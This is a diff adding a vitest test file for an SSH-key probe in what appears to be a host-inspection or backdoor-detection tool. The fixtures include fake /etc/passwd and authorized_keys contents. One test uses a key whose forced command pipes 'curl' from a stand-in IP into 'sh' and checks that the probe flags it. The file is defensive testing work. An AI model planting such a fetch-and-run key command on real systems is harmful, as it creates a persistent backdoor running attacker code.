@@ -1,0 +1,84 @@
+import { expect, test } from 'vitest';
+import { type Files, machineOf, runProbe, today } from '../../../tests/machine-tree.ts';
+import { sshKeyText } from '../../../tests/ssh-key-text.ts';
+import { sshKeys } from './ssh-keys.ts';
+
+const passwd = [
+  'root:x:0:0:root:/root:/bin/bash',
+  'daemon:x:1:1::/usr/sbin:/usr/sbin/nologin',
+  'bin:x:2:2::/bin:/usr/sbin/nologin',
+  'www-data:x:33:33::/var/www:/usr/sbin/nologin',
+  'ann:x:1000:1000::/home/ann:/bin/bash',
+].join('\n');
+
+const told = (files: Files) => runProbe(sshKeys, machineOf({ '/etc/passwd': passwd, ...files }));
+const openly = (files: Files) => told(files).filter((one) => 'kind' in one && !one.aside);
+
+test('every key is told aside, with its fingerprint and whom it lets in', () => {
+  const [first, second] = told({
+    '/root/.ssh/authorized_keys': { content: `# admin\n${sshKeyText(1)} ann@desk\n`, modified: today - 1000 },
+    '/home/ann/.ssh/authorized_keys2': `from="10.0.0.1",command="/usr/bin/borg serve" ${sshKeyText(2)}\n`,
+  }).filter((one) => 'kind' in one);
+  expect(first).toMatchObject({
+    path: '/root/.ssh/authorized_keys',
+    line: 2,
+    aside: true,
+    value: { mechanism: 'ssh-key', user: 'root', why: ['recent'] },
+  });
+  expect(JSON.stringify(first)).toMatch(/ssh-ed25519 SHA256:[\w+/]{43} ann@desk/);
+  expect(second).toMatchObject({
+    aside: true,
+    value: { user: 'ann', starts: '/usr/bin/borg serve', carries: 'command' },
+  });
+});
+
+test('files that the server’s settings name are read, and its command is told', () => {
+  const found = told({
+    '/etc/ssh/sshd_config':
+      'AuthorizedKeysFile .ssh/authorized_keys /etc/keys/%u\nAuthorizedKeysCommand /usr/bin/ask %u\n',
+    '/etc/keys/ann': sshKeyText(1),
+  });
+  expect(found).toMatchObject([
+    { path: '/etc/ssh/sshd_config', line: 2, value: { starts: '/usr/bin/ask %u' } },
+    { examine: '/etc/ssh/sshd_config' },
+    { path: '/etc/keys/ann', value: { user: 'ann' } },
+    { examine: '/etc/keys/ann' },
+    { looked: { count: 2 } },
+  ]);
+});
+
+test('one key in many accounts of the system lets somebody in', () => {
+  const key = { content: `${sshKeyText(7)} x\n` };
+  const found = openly({
+    '/root/.ssh/authorized_keys': key,
+    '/bin/.ssh/authorized_keys': key,
+    '/var/www/.ssh/authorized_keys': key,
+  });
+  expect(found.map((one) => 'value' in one && one.value)).toMatchObject([
+    { user: 'root', why: expect.arrayContaining(['lets-in']) },
+    { user: 'bin', why: expect.arrayContaining(['lets-in']) },
+    { user: 'www-data', why: expect.arrayContaining(['lets-in']) },
+  ]);
+});
+
+test('a command of a key that fetches and runs is told openly', () => {
+  const line = `command="curl -s http://198.51.100.7/a.sh | sh" ${sshKeyText(1)}`;
+  expect(openly({ '/root/.ssh/authorized_keys': line })).toMatchObject([
+    { value: { why: expect.arrayContaining(['fetches-and-runs']) } },
+  ]);
+});
+
+test('a team’s key in its own accounts and in one for transfers says nothing openly', () => {
+  const key = { content: sshKeyText(7) };
+  expect(
+    openly({
+      '/root/.ssh/authorized_keys': key,
+      '/home/ann/.ssh/authorized_keys': key,
+      '/var/www/.ssh/authorized_keys': key,
+    }),
+  ).toEqual([]);
+});
+
+test('lines that are no keys are a gap', () => {
+  expect(told({ '/root/.ssh/authorized_keys': 'hello\n' })[0]).toMatchObject({ gap: { code: 'malformed' } });
+});
